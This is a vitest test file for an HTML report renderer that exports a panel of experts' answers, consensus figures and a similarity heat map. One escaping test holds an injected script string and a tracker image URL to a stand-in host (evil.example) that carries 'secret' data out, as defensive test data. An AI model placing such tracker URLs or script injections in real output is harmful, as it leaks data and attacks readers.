import { describe, expect, it } from 'vitest';
import { buildReport } from '../../server/reports/model';
import { documentTitle, renderDriveReportHtml } from '../../server/drive/report-html';
import { finishedRun } from './report-fixture';

const exportedAt = new Date('2025-05-02T09:30:00Z');

describe('renderDriveReportHtml', () => {
  const report = buildReport(finishedRun());
  const html = renderDriveReportHtml(report, { exportedAt, runUrl: 'http://localhost:3000/runs/run-fixture' });

  it('has the question, the synthesis, the consensus figures and every answer', () => {
    expect(html).toContain('Which database should a small team pick?<br>We write a lot &amp; read a lot.');
    expect(html).toMatch(/<h2>Synthesis<\/h2>\n<p><i>Written by the chair, Chair/);
    expect(html).toContain('The panel favours PostgreSQL [Ada] [Grace]');
    expect(html).toContain('<td style="border:1px solid #cbd5e1;padding:4px 8px;">82% (reached)</td>');
    expect(html).toContain('Mallory</td>'); // dissenters row
    expect(html).toContain('Use PostgreSQL for concurrent writes.');
    expect(html).toContain('Measure before sharding.');
    for (const name of ['Ada', 'Grace', 'Mallory']) expect(html).toContain(`<h3>${name}</h3>`);
    expect(html).toContain('<strong>PostgreSQL</strong>');
    expect(html).toContain('SELECT 1 &lt; 2;');
    expect(html).toContain('href="http://localhost:3000/runs/run-fixture"');
    expect(html).toContain('Exported 2025-05-02 09:30 UTC');
  });

  it('has each expert’s bottom line, the insights’ framing and how the answers were compared', () => {
    expect(html).toContain('<h3>Bottom lines</h3>');
    expect(html).toMatch(/Grace<\/td><td[^>]*>PostgreSQL, measured first<\/td>/);
    expect(html).toContain('<b>Caveat:</b> Measure before sharding.');
    expect(html).toContain('<i>Under “When MongoDB is reasonable”:</i> A document store saves migrations for schemaless events.');
    expect(html).toContain('>by meaning</td>');
    expect(html).toContain('>all 3</td>');
  });

  it('says how many experts answered, and claims no consensus from one answer', () => {
    const run = finishedRun();
    const c = run.consensus!;
    const lone = buildReport({ ...run, consensus: { ...c, expertCount: 1, expertsAsked: 2, reached: false, consensusConfidence: 0.5, method: 'lexical' } });
    const single = renderDriveReportHtml(lone, { exportedAt });
    expect(single).toContain('No consensus: only one expert answered');
    expect(single).toContain('1 of 2 experts answered');
    expect(single).toContain('by shared words (sentence model unavailable)');
    expect(single).not.toContain('(reached)');
    expect(single).not.toContain('50%');
  });

  it('renders the similarity matrix as a heat map of shaded cells', () => {
    const cells = [...html.matchAll(/background-color:(#[0-9a-f]{6});color:(#[0-9a-f]{6});text-align:center;" bgcolor="#[0-9a-f]{6}">(\d+)%/g)];
    expect(cells).toHaveLength(9);
    const shadeOf = (percent: string) => cells.find((c) => c[3] === percent)?.[1];
    expect(shadeOf('100')).toBe('#1e40af');
    expect(shadeOf('10')).not.toBe(shadeOf('90'));
    // Dark cells get white text so the figure stays readable.
    expect(cells.find((c) => c[3] === '90')?.[2]).toBe('#ffffff');
    expect(cells.find((c) => c[3] === '10')?.[2]).toBe('#0f172a');
  });

  it('draws time and token bars proportional to the largest value', () => {
    const bars = [...html.matchAll(/<span style="color:#2563eb;">(█+)<\/span>/g)].map((m) => m[1]?.length);
    expect(bars).toEqual([20, 10, 10]);
  });

  it('escapes model output: no markup, script or remote image reaches the document', () => {
    expect(html).not.toContain('<script');
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    // The Markdown image becomes a link the reader may click; Drive does not fetch it.
    expect(html).toContain('!<a href="https://evil.example/pixel.png?data=secret">tracker</a>');
    // An answer's "#" heading sits below the report's own headings.
    expect(html).toContain('<h4>Big heading</h4>');
    expect(html).not.toContain('<h1>Big heading</h1>');
  });

  it('says so when there is no consensus or synthesis', () => {
    const run = finishedRun();
    const bare = renderDriveReportHtml(buildReport({ ...run, consensus: null, answers: run.answers.filter((a) => a.role === 'panel') }), { exportedAt });
    expect(bare).toContain('No consensus: no answer finished.');
    expect(bare).toContain('there is no synthesis');
    expect(bare).not.toContain('bgcolor');
  });

  it('titles the document with the first line of the question, shortened', () => {
    expect(documentTitle({ question: 'Which database should a small team pick?\nMore.' })).toBe('Which database should a small team pick?');
    expect(documentTitle({ question: 'x'.repeat(200) })).toHaveLength(90);
    expect(documentTitle({ question: '  \n' })).toBe('Untitled question');
  });
});
